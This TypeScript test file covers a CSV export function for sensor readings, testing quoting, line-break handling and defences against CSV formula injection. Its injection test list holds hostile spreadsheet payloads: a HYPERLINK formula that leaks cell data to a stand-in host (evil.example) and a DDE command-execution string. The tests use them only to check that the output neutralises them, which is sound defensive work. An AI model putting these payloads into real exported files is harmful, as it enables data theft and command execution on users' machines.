import { parse } from 'csv-parse/sync';
import { CSV_HEADER, csvCell, toCsv } from '../../lambdas/shared/csv';
import type { Feature } from '../../lambdas/shared/features';
import { numberText } from '../../lambdas/shared/number-text';
import type { ReadingRow } from '../../lambdas/shared/processed-reading';
import { type ProcessedReading, READING_COLUMNS } from '../../lambdas/shared/processed-reading';
import { processRecord, rawReading, SOURCE, simulatorReadings, toReadingRow } from './fixtures';

/** A minimal RFC 4180 reader, to check that what toCsv writes reads back cell for cell. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += char;
  }
  if (cell !== '' || row.length > 0) throw new Error('CSV does not end with a newline');
  return rows;
}

const scored = processRecord([
  rawReading(),
  rawReading({ temperature: 84, humidity: 45 }),
  rawReading({ equipment_id: 102, timestamp: '2026-11-23T19:47:08.5Z' }),
]);
/** Readings as the transform writes them; the second is anomalous in two features, whatever the detector said. */
const readings: ProcessedReading[] = [
  scored[0],
  {
    ...scored[1],
    isAnomaly: true,
    anomalousFeatures: ['temperature', 'humidity'],
    reasons: ['temperature +40% over baseline', 'humidity +50% over baseline'],
  },
  scored[2],
];

/** The cells the lake must hold: toReadingRow's, column by column (what last3 and Athena read). */
function expectedLine(processed: ProcessedReading): string {
  const row = toReadingRow(processed);
  return READING_COLUMNS.map((column) => csvCell(row[column])).join(',');
}

describe('csv', () => {
  it('has READING_COLUMNS joined by commas as its header', () => {
    expect(CSV_HEADER).toBe(READING_COLUMNS.join(','));
    expect(CSV_HEADER).toBe(
      'stream,shard_id,partition_key,sequence_number,reading_index,arrival_time,timestamp,equipment_id,' +
        'vibration_amplitude,vibration_frequency,temperature,humidity,anomaly_score,is_anomaly,' +
        'anomalous_features,reasons,model_version',
    );
  });

  it.each([
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['"', '""""'],
  ])('quotes %p RFC 4180 style', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it.each([
    ['line1\nline2', 'line1 line2'],
    ['line1\r\nline2', 'line1  line2'],
    ['\rx', ' x'],
    ['-2+3, "a"\nb', `"'-2+3, ""a"" b"`],
  ])(
    'writes the line breaks of %p as spaces: Athena reads every line break as the end of a row',
    (value, expected) => {
      expect(csvCell(value)).toBe(expected);
    },
  );

  it.each([
    ['plain text', 'plain text'],
    [
      'temperature +40% over baseline; humidity +50% over baseline',
      'temperature +40% over baseline; humidity +50% over baseline',
    ],
    [251.29348573658214, '251.29348573658214'],
    [true, 'true'],
    ['', ''],
  ])('leaves %p unquoted', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('toCsv writes the header and one line per reading, ending with a newline', () => {
    const csv = toCsv(readings);
    expect(csv.endsWith('\n')).toBe(true);
    const lines = csv.slice(0, -1).split('\n');
    expect(lines).toHaveLength(readings.length + 1);
    expect(lines[0]).toBe(CSV_HEADER);
    expect(lines[2]).toContain(
      ',true,temperature; humidity,temperature +40% over baseline; humidity +50% over baseline,',
    );
  });

  it('toCsv writes exactly the cells of toReadingRow, for every reading of a scored simulator record', () => {
    // Full-precision values, and values with two decimals as the simulator sends (numberText's fast path).
    const raw = simulatorReadings(1000, {
      equipmentId: 103,
      startMs: Date.UTC(2026, 10, 23, 19, 46, 0),
      seed: 5,
    });
    const twoDecimals = raw.map((reading, i) =>
      i % 2 === 0
        ? reading
        : Object.fromEntries(
            Object.entries(reading).map(([k, v]) => [
              k,
              typeof v === 'number' ? Math.round(v * 100) / 100 : v,
            ]),
          ),
    );
    const simulated = processRecord(twoDecimals);
    expect(simulated.some((p) => p.isAnomaly)).toBe(true);
    const other = { ...SOURCE, sequenceNumber: '2', arrivalMs: SOURCE.arrivalMs + 61_000 };
    const mixed = [...simulated, ...readings, ...simulated.slice(0, 3).map((p) => ({ ...p, source: other }))];
    const lines = toCsv(mixed).slice(0, -1).split('\n').slice(1);
    expect(lines).toEqual(mixed.map(expectedLine));
  });

  it('toCsv of no readings is the header line alone', () => {
    expect(toCsv([])).toBe(`${CSV_HEADER}\n`);
  });

  it('toCsv output reads back to the same cells, even with commas and quotes in them, a row a line', () => {
    const tricky: ProcessedReading = {
      ...readings[1],
      source: { ...readings[1].source, stream: 'a,"b"', partitionKey: 'x\ny' },
      reasons: ['r1, r2'],
    };
    const parsed = parseCsv(toCsv([readings[0], tricky]));
    expect(parsed).toHaveLength(3);
    expect(parsed[0]).toEqual([...READING_COLUMNS]);
    const trickyRow: ReadingRow = { ...toReadingRow(tricky), partition_key: 'x y' };
    expect(parsed[2]).toEqual(READING_COLUMNS.map((column) => String(trickyRow[column])));
    const firstRow = toReadingRow(readings[0]);
    expect(parsed[1]).toEqual(READING_COLUMNS.map((column) => String(firstRow[column])));
  });

  describe('formula injection (OWASP CSV injection)', () => {
    /** Text a spreadsheet would run, each as csvCell must write it: a ' first, quoted, quotes doubled. */
    const HOSTILE: [string, string][] = [
      ['=1+1', `"'=1+1"`],
      ['+1', `"'+1"`],
      ['-1', `"'-1"`],
      ['@SUM(A1)', `"'@SUM(A1)"`],
      ['\tx', `"'\tx"`],
      [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
      ],
      ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
      // A leading ' is doubled too, so a reader can always drop exactly one.
      ["'=1+1", `"''=1+1"`],
      ["'", `"''"`],
    ];
    /** What a CSV parser reads back: the cell as a spreadsheet shows it, and after dropping one leading '. */
    const readBack = (line: string) => {
      const [[cell]] = parse(`${line}\n`) as string[][];
      return { cell, value: cell.startsWith("'") ? cell.slice(1) : cell };
    };

    it.each(HOSTILE)('neutralises the text cell %p', (value, expected) => {
      expect(csvCell(value)).toBe(expected);
      const { cell, value: restored } = readBack(csvCell(value));
      expect(cell).toBe(`'${value}`);
      expect(restored).toBe(value);
    });

    it.each([
      'temperature -5% under baseline',
      'temperature +40% over baseline; humidity +50% over baseline',
      '101',
      'a=b',
      'shardId-000000000000',
      '',
    ])('leaves the text %p as it is (it starts with no formula character)', (value) => {
      expect(csvCell(value)).toBe(value);
      expect(readBack(csvCell(value)).value).toBe(value);
    });

    it.each([
      [-3.5, '-3.5'],
      [-1, '-1'],
      [-273.15, '-273.15'],
      [-0.0001, '-0.0001'],
      [1e-7, '1e-7'],
      [false, 'false'],
    ])('leaves the number or flag %p as it is, a minus sign included', (value, expected) => {
      expect(csvCell(value)).toBe(expected);
    });

    it('toCsv neutralises every text column, leaves numbers and flags, and reads back to the original', () => {
      const hostile = (value: string, i: number): ProcessedReading => ({
        ...readings[1],
        index: i,
        source: {
          stream: value,
          shardId: value,
          partitionKey: value,
          sequenceNumber: value,
          arrivalMs: readings[1].source.arrivalMs,
        },
        reading: { ...readings[1].reading, values: { ...readings[1].reading.values, temperature: -3.5 } },
        // Feature names come from the reading schema: their column is text too.
        anomalousFeatures: [value, 'humidity'] as unknown as Feature[],
        reasons: [value, 'humidity +50% over baseline'],
        modelVersion: value,
      });
      const written = HOSTILE.map(([value], i) => hostile(value, i));
      const rows = parse(toCsv(written), { columns: true }) as Record<string, string>[];
      expect(rows).toHaveLength(written.length);
      const text = new Set([
        'stream',
        'shard_id',
        'partition_key',
        'sequence_number',
        'anomalous_features',
        'reasons',
        'model_version',
      ]);
      for (const [i, row] of rows.entries()) {
        const expected = toReadingRow(written[i]);
        for (const column of READING_COLUMNS) {
          const cell = row[column];
          const value = expected[column];
          // No cell starts a formula: text is neutralised (one ' to drop), numbers and times are as they are.
          if (text.has(column)) expect(cell).toBe(`'${value}`);
          else expect(cell).toBe(typeof value === 'number' ? numberText(value) : String(value));
        }
        expect(row.temperature).toBe('-3.5');
      }
    });
  });
});
